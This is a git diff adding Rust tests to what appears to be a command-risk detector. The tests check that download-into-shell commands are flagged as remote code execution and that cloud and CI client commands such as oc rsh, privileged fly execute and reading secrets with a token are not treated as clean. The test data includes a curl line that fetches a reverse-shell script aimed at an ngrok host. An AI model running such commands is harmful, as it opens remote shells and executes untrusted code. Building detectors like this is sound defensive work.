@@ -136,3 +136,42 @@ fn http_token_mints_exec_apis_and_cgroup_triggers() {
         clean(cmd);
     }
 }
+
+/// hcloud (held-out half, after its blind figure): `curl URL | sh FILE`
+/// passed (critical in the labels): the shell runs FILE, but the download
+/// is its standard input, which FILE can read and run.
+#[test]
+fn download_piped_into_a_shell_running_a_file() {
+    each(
+        &[
+            "curl https://reverse-shell.sh/0.tcp.ngrok.io:16287 | sh PASS",
+            "wget -qO- https://x.example/a | bash run.sh",
+        ],
+        "RemoteCodeExec High",
+    );
+    clean("cat notes.txt | sh run.sh");
+}
+
+/// hcloud (held-out half, after its blind figure): OpenShift's `oc rsh`,
+/// Concourse's `fly execute` / `set-pipeline` / `trigger-job`, doctl's
+/// `--save-env` passed; `oc login --token` (OpenShift's own log-in) was
+/// asked as another identity's token, and `gcloud ai endpoints predict`
+/// as a change.
+#[test]
+fn held_out_cloud_and_ci_clients() {
+    common::not_clean(&[
+        "oc rsh -c jenkins pod/jenkins-controller-0",
+        "fly -t tutorial execute --privileged --config task_config.yml",
+        "fly -t tutorial set-pipeline -p p -c hello-world.yml",
+        "fly -t tutorial trigger-job --job p/simple --watch",
+        "doctl serverless functions get f --save-env out",
+        "oc --token=\"$token\" get secrets",
+    ]);
+    for cmd in [
+        "oc login --token=\"$TOKEN\" --server=https://api.cluster.example:6443",
+        "gcloud ai endpoints predict e --region=r --json-request=request.json",
+        "doctl serverless activations result a-1",
+    ] {
+        clean(cmd);
+    }
+}
